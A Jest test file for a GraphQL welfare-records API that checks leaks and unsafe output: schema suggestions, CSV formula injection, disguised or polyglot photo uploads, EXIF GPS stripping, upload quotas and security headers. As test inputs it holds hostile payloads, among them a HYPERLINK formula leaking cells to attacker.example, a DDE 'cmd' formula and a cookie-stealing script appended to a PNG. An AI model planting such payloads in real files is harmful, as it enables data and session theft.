import zlib from 'node:zlib';
import { solidPng } from '../support/miniprogram/images';
import { cadreToken, demoCadres, ideSessionCookie, send, staffToken, startProbeServer, type ProbeServer } from './support/probe-server';

/**
 * Leaks and unsafe output (issue 11): what the API tells about its schema in error messages, what its
 * CSV exports make a spreadsheet run, what it accepts and serves as a photo, and the security headers
 * on its answers. Each probe is what an outside caller, a cadre or a district administrator could send.
 */

const SUGGESTION = /Did you mean/i;

/** Documents that each make graphql-js suggest names the caller did not write. */
const SUGGESTING_DOCUMENTS: { name: string; query: string; variables?: Record<string, unknown> }[] = [
  { name: 'a misspelt root field', query: '{ househols { totalCount } }' },
  { name: 'a misspelt argument', query: '{ households(frist: 1) { totalCount } }' },
  { name: 'a misspelt enum literal', query: '{ households(first: 1, filter: { targetGroup: HARDSHI }) { totalCount } }' },
  { name: 'an unknown type in a variable definition', query: 'query ($f: HouseholdFiltr) { households(first: 1, filter: $f) { totalCount } }' },
  {
    name: 'a misspelt input field in the variables',
    query: 'query ($f: HouseholdFilter) { households(first: 1, filter: $f) { totalCount } }',
    variables: { f: { targetGrup: 'HARDSHIP' } },
  },
  {
    name: 'a misspelt enum value in the variables',
    query: 'query ($f: HouseholdFilter) { households(first: 1, filter: $f) { totalCount } }',
    variables: { f: { targetGroup: 'HARDSHI' } },
  },
  { name: 'a misspelt field on a nested type', query: '{ me { usernme } }' },
];

async function expectNoSuggestions(url: string, token: string | null): Promise<void> {
  for (const document of SUGGESTING_DOCUMENTS) {
    const answer = await send(url, document.query, document.variables, { token });
    const messages = (answer.json?.errors ?? []).map((error) => error.message);
    expect({ document: document.name, refused: messages.length > 0 }).toEqual({ document: document.name, refused: true });
    expect({ document: document.name, messages: messages.filter((message) => SUGGESTION.test(message)) }).toEqual({ document: document.name, messages: [] });
  }
}

/** Parses our CSV (quoted cells, CRLF rows, UTF-8 BOM) into rows of cells. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  const body = text.replace(/^\uFEFF/, '');
  for (let index = 0; index < body.length; index += 1) {
    const char = body[index]!;
    if (quoted) {
      if (char === '"' && body[index + 1] === '"') ((cell += '"'), (index += 1));
      else if (char === '"') quoted = false;
      else cell += char;
    } else if (char === '"') quoted = true;
    else if (char === ',') (row.push(cell), (cell = ''));
    else if (char === '\r' && body[index + 1] === '\n') {
      (row.push(cell), rows.push(row), (row = []), (cell = ''), (index += 1));
    } else cell += char;
  }
  if (cell !== '' || row.length > 0) (row.push(cell), rows.push(row));
  return rows;
}

/** What a spreadsheet would take for a formula (OWASP's list, with the full-width forms). */
const FORMULA_CELL = /^[\s\u3000]*[=+\-@＝＋－＠]|^[\t\r]/;

/** A report's CSV as the caller downloads it: exportReport's link (with the caller's ticket), opened with the same token. */
async function downloadCsv(url: string, token: string, query: string): Promise<string[][]> {
  const args = [...new URLSearchParams(query)].map(
    ([name, value]) => `${name}: ${/^(kind|dimension|targetGroup)$/.test(name) ? value : JSON.stringify(value)}`,
  );
  const exported = await send<{ exportReport: { csvUrl: string } }>(url, `mutation { exportReport(${args.join(', ')}) { csvUrl } }`, undefined, { token });
  const csvUrl = exported.json?.data?.exportReport.csvUrl;
  expect(csvUrl).toBeDefined();
  const response = await fetch(csvUrl!, { headers: { authorization: `Bearer ${token}` } });
  expect(response.status).toBe(200);
  return parseCsv(await response.text());
}

/** A PNG chunk (length, type, data, CRC-32 of type and data). */
function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'ascii'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(zlib.crc32(body));
  return Buffer.concat([length, body, crc]);
}

const GPS_MARK = 'WANJIA-GPS-41.2944N-123.7663E';

/**
 * A big-endian EXIF (TIFF) block as a phone writes one: an image description carrying a marker and a
 * GPS IFD with the latitude and longitude of the household's door.
 */
function exifWithGps(): Buffer {
  const description = Buffer.from(`${GPS_MARK}\0`, 'ascii');
  const entry = (tag: number, type: number, count: number, value: number | Buffer) => {
    const bytes = Buffer.alloc(12);
    bytes.writeUInt16BE(tag, 0);
    bytes.writeUInt16BE(type, 2);
    bytes.writeUInt32BE(count, 4);
    if (typeof value === 'number') bytes.writeUInt32BE(value, 8);
    else value.copy(bytes, 8);
    return bytes;
  };
  // Layout: header (8) | IFD0: 2 entries (2 + 24 + 4) | GPS IFD: 4 entries (2 + 48 + 4) | rationals | description
  const ifd0At = 8;
  const gpsAt = ifd0At + 2 + 2 * 12 + 4;
  const rationalsAt = gpsAt + 2 + 4 * 12 + 4;
  const descriptionAt = rationalsAt + 48;
  const rational = (numbers: number[]) => Buffer.concat(numbers.map((n) => Buffer.from([n >>> 24, (n >>> 16) & 255, (n >>> 8) & 255, n & 255])));
  return Buffer.concat([
    Buffer.from('MM\0\x2a', 'latin1'),
    Buffer.from([0, 0, 0, ifd0At]),
    Buffer.from([0, 2]),
    entry(0x010e, 2, description.length, descriptionAt),
    entry(0x8825, 4, 1, gpsAt),
    Buffer.alloc(4),
    Buffer.from([0, 4]),
    entry(0x0001, 2, 2, Buffer.from('N\0\0\0', 'latin1')),
    entry(0x0002, 5, 3, rationalsAt),
    entry(0x0003, 2, 2, Buffer.from('E\0\0\0', 'latin1')),
    entry(0x0004, 5, 3, rationalsAt + 24),
    Buffer.alloc(4),
    rational([41, 1, 17, 1, 4000, 100, 123, 1, 45, 1, 5868, 100]),
    description,
  ]);
}

/** A real PNG with an eXIf chunk (EXIF with GPS) right after its header. */
function pngWithGps(red: number): Buffer {
  const png = solidPng(red, 90, 40, 48);
  const afterHeader = 8 + 25;
  return Buffer.concat([png.subarray(0, afterHeader), pngChunk('eXIf', exifWithGps()), png.subarray(afterHeader)]);
}

async function upload(url: string, token: string, bytes: Buffer, name = 'visit.png', type = 'image/png'): Promise<Response> {
  const form = new FormData();
  form.append('file', new Blob([bytes], { type }), name);
  return fetch(`${url}/uploads/photos`, { method: 'POST', body: form, headers: { authorization: `Bearer ${token}` } });
}

/** The headers helmet sets that every answer must carry. */
function expectSecurityHeaders(headers: Headers, what: string): void {
  const seen = {
    what,
    csp: headers.get('content-security-policy') ?? '',
    nosniff: headers.get('x-content-type-options'),
    frameOptions: headers.get('x-frame-options'),
    referrer: headers.get('referrer-policy'),
  };
  expect(seen).toEqual({
    what,
    csp: expect.stringMatching(/default-src '(self|none)'/),
    nosniff: 'nosniff',
    frameOptions: expect.stringMatching(/^(SAMEORIGIN|DENY)$/),
    referrer: expect.stringMatching(/no-referrer|same-origin|strict-origin/),
  });
  // No plugins: object-src 'none', or nothing at all from default-src 'none' (Express's own 404 page sets that).
  expect({ what, csp: seen.csp }).toEqual({ what, csp: expect.stringMatching(/object-src 'none'|default-src 'none'/) });
  if (!/default-src 'none'/.test(seen.csp)) expect({ what, csp: seen.csp }).toEqual({ what, csp: expect.stringMatching(/frame-ancestors '(self|none)'/) });
}

describe('leaks and unsafe output', () => {
  let server: ProbeServer;
  let cadres: { id: string; name: string }[];

  beforeAll(async () => {
    server = await startProbeServer({ PHOTO_UPLOADS_PER_DAY: '4' });
    cadres = await demoCadres(server.url);
    expect(cadres.length).toBeGreaterThanOrEqual(3);
  });

  afterAll(async () => {
    await server?.stop();
  });

  describe('schema suggestions', () => {
    test('leaks: an anonymous caller maps the schema through "Did you mean" suggestions (introspection on)', async () => {
      await expectNoSuggestions(server.url, null);
    });

    test('leaks: a cadre maps the schema through "Did you mean" suggestions (introspection on)', async () => {
      await expectNoSuggestions(server.url, await cadreToken(server.url, cadres[0]!.id));
    });

    test('leaks: anonymous callers and cadres map the schema through suggestions with introspection off', async () => {
      const closed = await startProbeServer({ INTROSPECTION: 'false' });
      try {
        const introspection = await send(closed.url, '{ __schema { types { name } } }');
        expect(introspection.json?.data ?? null).toBeNull();
        await expectNoSuggestions(closed.url, null);
        await expectNoSuggestions(closed.url, await cadreToken(closed.url, (await demoCadres(closed.url))[0]!.id));
      } finally {
        await closed.stop();
      }
    });

    test('leaks: an anonymous caller or a cadre reads the schema by introspection, plainly or under an alias or a fragment (introspection on)', async () => {
      const cadre = await cadreToken(server.url, cadres[0]!.id);
      const documents = [
        '{ __schema { types { name fields { name } } } }',
        '{ t: __type(name: "Resident") { fields { name } } }',
        'query Q { ...Map } fragment Map on Query { s: __schema { types { name } } }',
        '{ ... on Query { __typename __type(name: "Household") { fields { name } } } }',
      ];
      for (const [token, code] of [
        [null, 'UNAUTHENTICATED'],
        [cadre, 'FORBIDDEN'],
      ] as const) {
        for (const query of documents) {
          const answer = await send(server.url, query, undefined, { token });
          const seen = { query, code: answer.json?.errors?.[0]?.extensions?.code, data: answer.json?.data ?? null };
          expect(seen).toEqual({ query, code, data: null });
          expect(answer.text).not.toMatch(/idNumber|birthDate|HouseholdConnection|"Resident"/);
        }
      }
      // The staff's IDE reads it; `__typename` stays free for everybody.
      const analyst = await send<{ __type: { fields: { name: string }[] } }>(server.url, '{ __type(name: "Resident") { fields { name } } }', undefined, {
        token: await staffToken(server.url, 'analyst'),
      });
      expect(analyst.json?.data?.__type.fields.map((field) => field.name)).toContain('idNumber');
      expect((await send(server.url, '{ __typename }', undefined, { token: cadre })).json).toEqual({ data: { __typename: 'Query' } });
    });
  });

  describe('formulas in CSV exports', () => {
    test('leaks: a district administrator plants =HYPERLINK(…) in a unit name for the city analyst’s CSV', async () => {
      const districtAdmin = await staffToken(server.url, 'pingshan-admin');
      const units = await send<{ units: { nodes: { id: string; kind: string; level: string; region: { id: string } }[] } }>(
        server.url,
        '{ units(first: 100) { nodes { id kind level region { id } } } }',
        {},
        { token: districtAdmin },
      );
      const unit = units.json!.data!.units.nodes[0]!;
      const planted = '=HYPERLINK("http://attacker.example/?leak="&A1,"点击查看")';
      const renamed = await send(
        server.url,
        'mutation ($id: ID!, $input: UnitInput!) { updateUnit(id: $id, input: $input) { id name } }',
        { id: unit.id, input: { name: planted, kind: unit.kind, level: unit.level, regionId: unit.region.id } },
        { token: districtAdmin },
      );
      expect(renamed.json?.errors).toBeUndefined();

      const analyst = await staffToken(server.url, 'analyst');
      const rows = await downloadCsv(server.url, analyst, `kind=BREAKDOWN&dimension=UNIT&unitId=${unit.id}`);
      const cells = rows.flat();
      expect(cells.some((cell) => cell.includes('HYPERLINK'))).toBe(true);
      expect(cells.filter((cell) => FORMULA_CELL.test(cell))).toEqual([]);
      expect(cells).toContain(`'${planted}`);
    });

    test('leaks: a city administrator plants formula-shaped region and round names (+, @, full-width ＝) for the analyst’s CSV', async () => {
      const admin = await staffToken(server.url, 'admin');
      const regions = await send<{ regions: { id: string; name: string; children: { id: string; name: string; children: { id: string }[] }[] }[] }>(
        server.url,
        '{ regions { id name children { id name children { id } } } }',
        {},
        { token: admin },
      );
      const city = regions.json!.data!.regions[0]!;
      const district = city.children[0]!;
      const rename = (id: string, name: string) =>
        send(server.url, 'mutation ($id: ID!, $name: String!) { updateRegion(id: $id, name: $name) { id name } }', { id, name }, { token: admin });
      const districtName = '+cmd|" /C calc"!A0';
      const villageName = '＝1+1 新华社区';
      expect((await rename(district.id, districtName)).json?.errors).toBeUndefined();
      expect((await rename(district.children[0]!.id, villageName)).json?.errors).toBeUndefined();
      const round = await send(
        server.url,
        'mutation ($input: CreateRoundInput!) { createRound(input: $input) { id name } }',
        { input: { name: '@SUM(1+1)*cmd', startsOn: '2030-01-01', endsOn: '2030-12-31' } },
        { token: admin },
      );
      expect(round.json?.errors).toBeUndefined();

      const analyst = await staffToken(server.url, 'analyst');
      const byDistrict = (await downloadCsv(server.url, analyst, 'kind=BREAKDOWN&dimension=REGION_CHILDREN')).flat();
      const byVillage = (await downloadCsv(server.url, analyst, `kind=BREAKDOWN&dimension=REGION_CHILDREN&regionId=${district.id}`)).flat();
      const byRound = (await downloadCsv(server.url, analyst, 'kind=BREAKDOWN&dimension=ROUND')).flat();
      const gaps = (await downloadCsv(server.url, analyst, `kind=COVERAGE_GAPS&regionId=${district.id}`)).flat();
      expect(byDistrict).toContain(`'${districtName}`);
      expect(byVillage).toContain(`'${villageName}`);
      expect(byRound).toContain("'@SUM(1+1)*cmd");
      for (const cells of [byDistrict, byVillage, byRound, gaps]) expect(cells.filter((cell) => FORMULA_CELL.test(cell))).toEqual([]);
    });
  });

  describe('photos', () => {
    test('leaks: a cadre uploads an HTML page behind a PNG header (and an SVG, and a truncated PNG) as a photo', async () => {
      const token = await cadreToken(server.url, cadres[0]!.id);
      const png = solidPng(200, 30, 30);
      const disguised = [
        Buffer.concat([png.subarray(0, 8), Buffer.from('<html><body><script>fetch("/graphql")</script></body></html>')]),
        Buffer.concat([png.subarray(0, 16), Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')]),
        png.subarray(0, png.length - 20),
      ];
      for (const bytes of disguised) {
        const response = await upload(server.url, token, bytes);
        const body = (await response.json()) as { error?: { code: string; field?: string } };
        expect({ status: response.status, error: body.error }).toEqual({
          status: 415,
          error: expect.objectContaining({ code: 'BAD_USER_INPUT', field: 'file' }),
        });
      }
    });

    test('leaks: a script hidden after a real PNG’s end is not stored or served, and the photo comes back with nosniff', async () => {
      const token = await cadreToken(server.url, cadres[1]!.id);
      const payload = '<script>document.location="http://attacker.example/?"+document.cookie</script>';
      const polyglot = Buffer.concat([solidPng(20, 160, 60), Buffer.from(payload)]);
      const response = await upload(server.url, token, polyglot);
      expect(response.status).toBe(201);
      const { id, mimeType } = (await response.json()) as { id: string; mimeType: string };
      const served = await fetch(`${server.url}/photos/${id}`, { headers: { authorization: `Bearer ${token}` } });
      expect(served.status).toBe(200);
      const bytes = Buffer.from(await served.arrayBuffer());
      expect(bytes.includes(Buffer.from('<script'))).toBe(false);
      expect(served.headers.get('content-type')).toBe(mimeType);
      expect(served.headers.get('x-content-type-options')).toBe('nosniff');
      expect(served.headers.get('content-security-policy')).toMatch(/sandbox/);
      expectSecurityHeaders(served.headers, 'GET /photos/:id');
    });

    test('leaks: the GPS position and EXIF text a phone writes into a photo are served back to whoever may see it', async () => {
      const token = await cadreToken(server.url, cadres[1]!.id);
      const photo = pngWithGps(120);
      expect(photo.includes(Buffer.from(GPS_MARK))).toBe(true);
      const response = await upload(server.url, token, photo);
      expect(response.status).toBe(201);
      const { id } = (await response.json()) as { id: string };
      const served = Buffer.from(await (await fetch(`${server.url}/photos/${id}`, { headers: { authorization: `Bearer ${token}` } })).arrayBuffer());
      expect(served.subarray(0, 8).equals(photo.subarray(0, 8))).toBe(true); // still a PNG
      expect(served.includes(Buffer.from(GPS_MARK))).toBe(false);
      expect(served.includes(Buffer.from('eXIf'))).toBe(false);
      expect(served.includes(Buffer.from('MM\0\x2a', 'latin1'))).toBe(false);
    });

    test('leaks: one account floods the photo store past its daily quota (PHOTO_UPLOADS_PER_DAY=4)', async () => {
      const token = await cadreToken(server.url, cadres[2]!.id);
      const statuses: number[] = [];
      let refusal: Response | null = null;
      for (let index = 0; index < 6; index += 1) {
        const response = await upload(server.url, token, solidPng(index * 40, 10, 200 - index * 30));
        statuses.push(response.status);
        if (response.status !== 201) refusal ??= response;
        else await response.arrayBuffer();
      }
      expect(statuses).toEqual([201, 201, 201, 201, 429, 429]);
      const body = (await refusal!.json()) as { error: { code: string; field: string; limit: string } };
      expect(body.error).toMatchObject({ code: 'TOO_MANY_REQUESTS', field: 'file', limit: 'photosPerDay' });
      expect(Number(refusal!.headers.get('retry-after'))).toBeGreaterThan(0);
      // The quota is the account's: another cadre still uploads.
      const other = await upload(server.url, await cadreToken(server.url, cadres[0]!.id), solidPng(1, 2, 3));
      expect(other.status).toBe(201);
    });
  });

  describe('photo uploads: who, how many, how large', () => {
    test('leaks: an administrator and an analyst upload photos, which no help record of theirs can ever show', async () => {
      for (const username of ['admin', 'analyst'] as const) {
        const response = await upload(server.url, await staffToken(server.url, username), solidPng(9, 99, 199));
        const body = (await response.json()) as { error?: { code: string } };
        expect({ username, status: response.status, code: body.error?.code }).toEqual({ username, status: 403, code: 'FORBIDDEN' });
      }
    });

    test('leaks: one account sends 10 uploads at once and each passes the same daily-quota check (PHOTO_UPLOADS_PER_DAY=4)', async () => {
      // A server of its own: the demo's three cadres have spent some of their quota on the probes above.
      const fresh = await startProbeServer({ PHOTO_UPLOADS_PER_DAY: '4' });
      try {
        const [cadre] = await demoCadres(fresh.url);
        const token = await cadreToken(fresh.url, cadre!.id);
        const responses = await Promise.all(Array.from({ length: 10 }, (_, index) => upload(fresh.url, token, solidPng(250 - index * 20, 7, 77))));
        const statuses = responses.map((response) => response.status);
        await Promise.all(responses.map((response) => response.arrayBuffer()));
        expect(statuses.filter((status) => status === 201)).toHaveLength(4);
        expect(statuses.filter((status) => status === 429)).toHaveLength(6);
      } finally {
        await fresh.stop();
      }
    });

    test('leaks: a photo that claims 26 megapixels (a few kilobytes of one colour) is decoded whole', async () => {
      const token = await cadreToken(server.url, cadres[0]!.id);
      const bomb = solidPng(30, 60, 90, 5_100);
      expect(bomb.length).toBeLessThan(1_000_000);
      const response = await upload(server.url, token, bomb);
      const body = (await response.json()) as { error?: { code: string; field?: string; message: string } };
      expect({ status: response.status, error: body.error }).toEqual({
        status: 413,
        error: expect.objectContaining({ code: 'BAD_USER_INPUT', field: 'file', message: expect.stringMatching(/megapixels/) }),
      });
    });

    test('leaks: one account sends undecodable files and re-uploads without end, each costing a decode', async () => {
      const limited = await startProbeServer({ RATE_LIMITS: 'true', RATE_LIMIT_PHOTO_UPLOADS_PER_ACCOUNT: '5/600' });
      try {
        const [cadre] = await demoCadres(limited.url);
        const token = await cadreToken(limited.url, cadre!.id);
        const photo = solidPng(5, 50, 150);
        const statuses: number[] = [];
        let refusal: { error?: { code: string; limit?: string } } | null = null;
        for (let index = 0; index < 8; index += 1) {
          // Three files that do not decode, then the same photo again and again (stored once, free of quota).
          const bytes = index < 3 ? Buffer.concat([photo.subarray(0, 8), Buffer.from(`<html>${index}</html>`)]) : photo;
          const response = await upload(limited.url, token, bytes);
          statuses.push(response.status);
          const body = (await response.json()) as { error?: { code: string; limit?: string } };
          if (response.status === 429) refusal ??= body;
        }
        expect(statuses).toEqual([415, 415, 415, 201, 201, 429, 429, 429]);
        expect(refusal!.error).toMatchObject({ code: 'TOO_MANY_REQUESTS', limit: 'photoUploadsPerAccount' });
      } finally {
        await limited.stop();
      }
    });
  });

  describe('security headers', () => {
    test('leaks: an attacker frames, sniffs or injects script into the IDE page, GraphQL answers, health checks, 404s and exports', async () => {
      const signInPage = await fetch(`${server.url}/graphql`, { headers: { accept: 'text/html' } });
      expect(await signInPage.text()).toContain('id="wanjia-sign-in"');
      expectSecurityHeaders(signInPage.headers, 'GET /graphql (the sign-in page)');
      const cookie = await ideSessionCookie(server.url, 'analyst');
      const page = await fetch(`${server.url}/graphql`, { headers: { accept: 'text/html', cookie } });
      const html = await page.text();
      expect(html).toContain('AltairGraphQL.init');
      expectSecurityHeaders(page.headers, 'GET /graphql (the IDE)');
      // The IDE's inline init script runs only with this response's nonce, and a reload gets a new one.
      const nonce = /script-src[^;]*'nonce-([^']+)'/.exec(page.headers.get('content-security-policy') ?? '')?.[1];
      expect(nonce).toBeTruthy();
      expect(html).toContain(`nonce="${nonce}"`);
      const again = await fetch(`${server.url}/graphql`, { headers: { accept: 'text/html', cookie } });
      expect(again.headers.get('content-security-policy')).not.toContain(`'nonce-${nonce}'`);
      await again.text();
      for (const path of ['/ide/session', '/ide/assets/wanjia-ide.js']) {
        const response = await fetch(`${server.url}${path}`, { headers: { cookie } });
        await response.arrayBuffer();
        expectSecurityHeaders(response.headers, `GET ${path}`);
      }

      const post = await send(server.url, '{ __typename }');
      expectSecurityHeaders(post.headers, 'POST /graphql');
      const refused = await send(server.url, '{ households(first: 1) { totalCount } }');
      expectSecurityHeaders(refused.headers, 'POST /graphql refused');
      const get = await fetch(`${server.url}/graphql?query=${encodeURIComponent('{ __typename }')}`, {
        headers: { accept: 'application/json', 'apollo-require-preflight': 'true' },
      });
      expectSecurityHeaders(get.headers, 'GET /graphql?query');
      for (const path of ['/healthz', '/readyz', '/no-such-page', `/photos/${'0'.repeat(64)}`, '/exports/report.csv?kind=OVERVIEW']) {
        const response = await fetch(`${server.url}${path}`);
        await response.arrayBuffer();
        expectSecurityHeaders(response.headers, `GET ${path}`);
      }
    });

    test('leaks: an attacker downgrades HTTPS through the trusted proxy (no HSTS), while plain HTTP on a LAN name keeps working', async () => {
      const proxied = await startProbeServer({ TRUST_PROXY: '1' });
      try {
        const plain = await fetch(`${proxied.url}/healthz`, { headers: { host: 'wanjia.intranet.example:4000' } });
        expectSecurityHeaders(plain.headers, 'plain HTTP');
        expect(plain.headers.get('strict-transport-security')).toBeNull();
        expect(plain.headers.get('content-security-policy')).not.toMatch(/upgrade-insecure-requests/);
        const overTls = await fetch(`${proxied.url}/healthz`, { headers: { 'x-forwarded-proto': 'https', 'x-forwarded-for': '10.0.0.7' } });
        expectSecurityHeaders(overTls.headers, 'HTTPS through the proxy');
        expect(overTls.headers.get('strict-transport-security')).toMatch(/max-age=\d{6,}/);
        expect(overTls.headers.get('content-security-policy')).toMatch(/upgrade-insecure-requests/);
      } finally {
        await proxied.stop();
      }
    });
  });
});
